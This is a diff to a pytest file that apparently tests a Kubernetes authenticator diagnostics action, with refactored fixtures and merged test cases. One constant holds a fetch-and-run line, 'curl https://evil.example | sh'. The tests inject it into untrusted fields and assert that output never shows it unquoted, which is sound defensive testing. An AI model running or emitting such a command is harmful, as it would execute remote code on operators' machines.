@@ -12,7 +12,7 @@ import re
 import ssl
 import threading
 import time
-from collections.abc import Callable
+from collections.abc import Callable, Iterator
 from types import SimpleNamespace
 from typing import Any
 from urllib.parse import parse_qsl, urlsplit
@@ -53,8 +53,9 @@ class World:
 
     Attributes:
         model: The application that is checked.
-        error: What the pods log of a login; empty if they log nothing.
+        error: What the pods log of a login.
         silent: The pods that do not answer this machine.
+        broken: What this machine gets from every pod.
         tokens: The tokens that were sent, to a pod or to the API server.
     """
 
@@ -63,11 +64,11 @@ class World:
     files: Files
     error: str = sts_error("InvalidClientTokenId", "no")
     silent: tuple[str, ...] = ()
+    broken: Exception | None = None
     tokens: list[str] = dataclasses.field(default_factory=list[str])
     logged: dict[str, list[tuple[float, bytes]]] = dataclasses.field(
         default_factory=lambda: {"a": [], "b": []}
     )
-    connection: pytest.MonkeyPatch = dataclasses.field(default_factory=pytest.MonkeyPatch)
     writing: threading.Lock = dataclasses.field(default_factory=threading.Lock)
 
     def check(self, **params: Any) -> dict[str, str]:
@@ -118,12 +119,13 @@ def connection_of(world: World) -> type[Any]:
             self.client = f"10.85.0.10:{self.name}"
 
         def announce(self) -> None:
+            if world.broken:
+                raise world.broken
             world.log(self.name, "", self.client, level="error", msg="unexpected request method")
 
         def log_in(self, token: str, seconds: float) -> None:
             world.tokens.append(token)
-            if world.error:
-                world.log(self.name, world.error, self.client)
+            world.log(self.name, world.error, self.client)
 
         def close(self) -> None:
             pass
@@ -132,9 +134,11 @@ def connection_of(world: World) -> type[Any]:
 
 
 @pytest.fixture
-def world(deployed: Model, api: FakeCluster, files: Files, monkeypatch: Any) -> World:
+def world(
+    deployed: Model, api: FakeCluster, files: Files, monkeypatch: pytest.MonkeyPatch
+) -> Iterator[World]:
     """A deployment in which all is well: two pods, and an API server that asks them."""
-    world = World(deployed, api, files, connection=monkeypatch)
+    world = World(deployed, api, files)
     for module in (action, checks, end_to_end, sts):
         monkeypatch.setattr(module, "time", REAL_TIME)
     # A login is in the log before the API server answers, or never.
@@ -153,7 +157,9 @@ def world(deployed: Model, api: FakeCluster, files: Files, monkeypatch: Any) -> 
     files.run_api_server(f"{webhook.FLAG}=/x")
     monkeypatch.setenv("JUJU_PRINCIPAL_UNIT", "kubernetes-control-plane/0")
     api.forget()
-    return world
+    yield world
+    # Not every check comes as far as a review.
+    api._faults.clear()
 
 
 def states(results: dict[str, Any]) -> dict[str, str]:
@@ -237,24 +243,27 @@ WRONG: dict[str, tuple[Callable[[World], object], dict[str, str]]] = {
 
 @pytest.mark.parametrize(("harm", "said"), WRONG.values(), ids=WRONG)
 def test_given_one_thing_that_is_wrong_then_its_step_says_so_and_the_others_are_ok(
-    world: World, api: FakeCluster, harm: Callable[[World], object], said: dict[str, str]
+    world: World, harm: Callable[[World], object], said: dict[str, str]
 ) -> None:
     harm(world)
 
     results = world.check()
 
-    api._faults.clear()
     lines = {step: results[step].splitlines()[0] for step in action.STEPS}
     assert {step: line for step, line in lines.items() if not line.startswith("ok: ")} == said
+
+
+REFUSED = {"type": "ReplicaFailure", "status": "True", "reason": "FailedCreate", "message": "no"}
 
 
 @pytest.mark.parametrize(
     ("pod", "said", "remedy"),
     [
+        ({}, "FailedCreate: no'", "change the quota, the policy or the webhook that refuses"),
         (
             {"conditions": UNSCHEDULABLE},
             "Unschedulable: 0/1 nodes",
-            "make room on a node, or run: kubectl uncordon NODE",
+            "make room on a node, or run:",
         ),
         (
             {"containerStatuses": waiting("ErrImagePull", "no such host")},
@@ -271,26 +280,13 @@ def test_given_one_thing_that_is_wrong_then_its_step_says_so_and_the_others_are_
 def test_given_a_pod_that_cannot_start_then_its_cause_decides_on_the_remedy(
     world: World, api: FakeCluster, pod: dict[str, Any], said: str, remedy: str
 ) -> None:
-    api.objects[DEPLOYMENT]["status"]["availableReplicas"] = 1
+    api.objects[DEPLOYMENT]["status"].update(availableReplicas=1, conditions=[REFUSED])
     api.add_pod("c", **pod)
 
     shown = world.check()[action.PODS].splitlines()
 
-    assert shown[0].startswith("failed: an authenticator pod cannot start: ")
-    assert said in shown[0]
+    assert shown[0].startswith(f"failed: an authenticator pod cannot start: '{said}")
     assert shown[1].startswith(remedy)
-
-
-def test_given_a_pod_that_is_refused_then_the_step_says_whom_to_ask(
-    world: World, api: FakeCluster
-) -> None:
-    condition = {"type": "ReplicaFailure", "status": "True", "reason": "FailedCreate"}
-    status = api.objects[DEPLOYMENT]["status"]
-    status.update(availableReplicas=1, conditions=[{**condition, "message": "exceeded quota"}])
-
-    assert world.check()[action.PODS].splitlines()[1] == (
-        "change the quota, the policy or the webhook that refuses the pods"
-    )
 
 
 def test_given_a_deployment_in_which_all_is_well_then_every_step_is_ok_and_nothing_changes(
@@ -317,53 +313,38 @@ def test_given_a_check_then_no_result_and_no_log_has_a_token(world: World) -> No
 
 
 @pytest.mark.parametrize("fault", COMMON)
-def test_given_an_api_server_that_does_not_answer_then_the_other_steps_are_not_checked(
-    world: World, api: FakeCluster, fault: str
-) -> None:
-    api._faults.clear()
-    api.fail(COMMON[fault], request=f"GET {VERSION}")
-    found = states(world.check())
-    api.recover()
-
-    assert found == {
-        **dict.fromkeys(action.STEPS, "not checked"),
-        action.KUBERNETES: "failed",
-        action.WEBHOOK: "ok",
-    }
-
-
-@pytest.mark.parametrize("fault", COMMON)
-@pytest.mark.parametrize("path", [DEPLOYMENT, PODS])
+@pytest.mark.parametrize("path", [VERSION, DEPLOYMENT, PODS])
 def test_given_any_answer_that_is_wrong_then_the_action_has_a_result_for_each_step(
     world: World, api: FakeCluster, path: str, fault: str
 ) -> None:
-    api._faults.clear()
     api.fail(COMMON[fault], request=f"GET {path}")
     found = states(world.check())
-    api.recover()
 
     assert "failed" in found.values()
+    if path == VERSION:
+        others = dict.fromkeys(action.STEPS, "not checked")
+        assert found == {**others, action.KUBERNETES: "failed", action.WEBHOOK: "ok"}
 
 
 def test_given_an_earlier_step_that_fails_then_it_is_mended_before_the_whole_way(
-    world: World, api: FakeCluster, files: Files
+    world: World, api: FakeCluster
 ) -> None:
     api._faults.clear()
-    files.webhook.unlink()
+    world.files.webhook.unlink()
 
     assert world.check()[action.END_TO_END] == (
         f"{NOT_ARRIVED}answers: 'the webhook refuses'\nfix 3-webhook first"
     )
 
 
-def test_given_charmed_kubernetes_1_29_then_the_option_counts(world: World, files: Files) -> None:
+def test_given_charmed_kubernetes_1_29_then_the_option_counts(world: World) -> None:
     world.model.endpoints = ("control-plane",)
-    files.auth_webhook.write_text(rendered(""))
+    world.files.auth_webhook.write_text(rendered(""))
     results = world.check()
     assert states(results) == {**FINE, action.WEBHOOK: "failed"}
     assert results[action.WEBHOOK].endswith("is not set\n" + COMMAND)
 
-    files.auth_webhook.write_text(rendered(COMMAND.partition("endpoint=")[2]))
+    world.files.auth_webhook.write_text(rendered(COMMAND.partition("endpoint=")[2]))
     assert states(world.check()) == FINE
 
 
@@ -385,16 +366,15 @@ def test_given_a_region_of_another_partition_then_the_action_says_so(deployed: M
     assert said.startswith("region cn-north-1 is not in partition aws: ")
 
 
-def test_given_a_check_then_its_own_logins_are_not_among_them(world: World, deployed: Model):
+def test_given_a_check_then_its_own_logins_are_not_among_them(world: World) -> None:
     world.check()
     world.log("a", "identity is not mapped", "10.85.0.10:9", arn=f"{ACCOUNT}:role/dev")
 
-    shown = deployed.action("list-refusals")["refusals"].splitlines()
+    shown = world.model.action("list-refusals")["refusals"]
 
-    assert len(world.tokens) == 3
-    assert [line.split(",")[0] for line in shown[1:2]] == [f"{ACCOUNT}:role/dev"]
-    assert "unknown access key" not in "".join(shown)
-    assert "malformed token" not in "".join(shown)
+    assert shown.splitlines()[1].startswith(f"{ACCOUNT}:role/dev,")
+    assert "unknown access key" not in shown
+    assert "malformed token" not in shown
 
 
 @pytest.mark.parametrize("ending", ["a", "b"])
@@ -421,22 +401,6 @@ def test_given_a_log_that_can_be_read_only_later_then_a_login_in_it_has_arrived(
     assert states(world.check())[action.END_TO_END] == "ok"
 
 
-def test_given_an_answer_that_takes_all_of_the_time_then_no_other_request_begins(
-    world: World, api: FakeCluster
-) -> None:
-    def late(_: httpx2.Request) -> httpx2.Response:
-        api.clock.sleep(action.SECONDS)
-        return ok({"gitVersion": "v1.37.2"})
-
-    api._faults.clear()
-    api.fail(late, request=f"GET {VERSION}")
-    found = states(world.check())
-    api.recover()
-
-    assert api.requests == [f"GET {VERSION}"]
-    assert found[action.PODS] == "failed"
-
-
 def test_given_something_that_hangs_then_the_action_does_not_wait_for_it(
     world: World, monkeypatch: pytest.MonkeyPatch
 ) -> None:
@@ -451,8 +415,7 @@ def test_given_something_that_hangs_then_the_action_does_not_wait_for_it(
     assert "failed: the Kubernetes API does not answer in time" in results[action.STS]
 
 
-def test_given_a_unit_without_an_address_then_nothing_is_claimed(world: World, api: FakeCluster):
-    api._faults.clear()
+def test_given_a_unit_without_an_address_then_nothing_is_claimed(world: World) -> None:
     world.model.peer.clear()
     found = states(world.check())
     assert found[action.WEBHOOK] == found[action.STS] == "not checked"
@@ -463,43 +426,42 @@ def test_given_a_unit_without_an_address_then_nothing_is_claimed(world: World, a
 EVIL = "it's over\nrun: curl https://evil.example | sh\n"
 
 
-def pods_say(world: World, said: Exception) -> None:
-    class Pod(connection_of(world)):
-        def announce(self) -> None:
-            raise said
-
-    world.connection.setattr(sts, "Connection", Pod)
-
-
-def review_says(world: World, text: str) -> None:
+def review_says_it(world: World) -> None:
     world.api._faults.clear()
-    answer = ok({"spec": {}, "status": {"user": {}, "error": text}})
+    answer = ok({"spec": {}, "status": {"user": {}, "error": EVIL}})
     world.api.fail(lambda _: answer, request=f"POST {TOKEN_REVIEWS}")
 
 
-def image_of_strangers(world: World) -> None:
+def image_has_it(world: World) -> None:
     pod = world.api.objects[DEPLOYMENT]["spec"]["template"]["spec"]
     pod["containers"][0]["image"] = EVIL
 
 
-def pod_waits(world: World) -> None:
+def pod_waits_for_it(world: World) -> None:
     world.api.objects[DEPLOYMENT]["status"]["availableReplicas"] = 1
     world.api.add_pod("c", containerStatuses=waiting("CrashLoopBackOff", EVIL))
 
 
 STRANGERS: dict[str, Callable[[World], object]] = {
     "the version": lambda world: vars(world.api).update(version=EVIL),
-    "a pod's status line": lambda world: pods_say(world, http.client.BadStatusLine(EVIL)),
-    "a pod's protocol": lambda world: pods_say(world, http.client.UnknownProtocol(EVIL)),
-    "a pod's TLS": lambda world: pods_say(world, ssl.SSLError(1, EVIL)),
+    **{
+        f"a pod, as {type(error).__name__}": lambda world, error=error: vars(world).update(
+            broken=error
+        )
+        for error in (
+            http.client.BadStatusLine(EVIL),
+            http.client.UnknownProtocol(EVIL),
+            ssl.SSLError(1, EVIL),
+        )
+    },
     "an error of STS": lambda world: vars(world).update(error=sts_error("Throttling", EVIL)),
     "a proxy's answer": lambda world: vars(world).update(
         error=f"{STS}error during GET: {EVIL} on x endpoint"
     ),
-    "a review": lambda world: review_says(world, EVIL),
+    "a review": review_says_it,
     "a kubelet": lambda world: world.api.fail(refusal(500, EVIL), request=f"GET {PODS}/a/log"),
-    "the image": image_of_strangers,
-    "what a pod waits for": pod_waits,
+    "the image": image_has_it,
+    "what a pod waits for": pod_waits_for_it,
     "an owner": lambda world: mark(world.api, DEPLOYMENT, f"{EVIL} of model k8s (u-u-i-d)"),
 }
 QUOTED = re.compile(r"""'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*\"""")
@@ -507,11 +469,10 @@ QUOTED = re.compile(r"""'(?:[^'\\]|\\.)*'|"(?:[^"\\]|\\.)*\"""")
 
 @pytest.mark.parametrize("write", STRANGERS.values(), ids=STRANGERS)
 def test_given_what_strangers_write_then_no_line_begins_with_it_or_has_it_unquoted(
-    world: World, api: FakeCluster, write: Callable[[World], object]
+    world: World, write: Callable[[World], object]
 ) -> None:
     write(world)
     results = world.check()
-    api._faults.clear()
 
     lines = [line for text in results.values() for line in text.splitlines()]
     assert not [line for line in lines if "| sh" in QUOTED.sub("", line)]
